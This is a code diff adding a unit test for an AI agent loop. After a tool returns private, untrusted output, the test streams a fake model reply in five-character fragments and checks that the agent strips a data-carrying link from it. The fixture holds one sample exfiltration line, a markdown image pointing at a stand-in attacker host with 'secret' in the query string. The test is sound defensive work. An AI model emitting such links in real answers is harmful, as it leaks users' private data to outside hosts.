@@ -41,6 +41,37 @@ describe('the agent loop', () => {
     model.assertDone();
   });
 
+  it('shows an exposed run’s text whole and without links that could carry data out, however it is cut into pieces', async () => {
+    const peek = defineTool({
+      name: 'peek',
+      description: '',
+      permission: 'READ_ONLY',
+      requiresApproval: false,
+      parallelSafe: true,
+      yields: ['private', 'untrusted'],
+      input: z.strictObject({}),
+      run: async () => ({ output: 'x', summary: '' }),
+    });
+    const text = 'Look: ![x](https://evil.test/p?d=secret) done';
+    const model: ModelProvider = {
+      provider: 'x',
+      model: 'x',
+      label: '',
+      async *stream({ messages }) {
+        const usage = { inputTokens: 1, outputTokens: 1, costMicroUsd: 1, modelCalls: 1 };
+        if (messages.some((message) => message.role === 'tool'))
+          for (const piece of text.match(/.{1,5}/g) ?? []) yield { type: 'text', text: piece };
+        else yield { type: 'tool_call', call: { callId: 'c', tool: 'peek', arguments: {} } };
+        yield { type: 'finish', reason: 'stop', usage };
+      },
+    };
+    const one = run(model, { tools: [peek] });
+    const clean = 'Look: x (link removed) done';
+    expect(await one.done).toMatchObject({ kind: 'answered', text: clean });
+    expect(one.shown.flatMap((step) => (step.kind === 'text' ? [step.text] : []))).toEqual([clean]);
+    expect(JSON.stringify(one.shown)).not.toContain('secret');
+  });
+
   it('books what each turn consumed with the step and names the model', async () => {
     const one = run(
       scriptedModel([{ purpose: 'execute', reply: { text: 'x' }, usage: { inputTokens: 7, outputTokens: 3, costMicroUsd: 9 } }]),
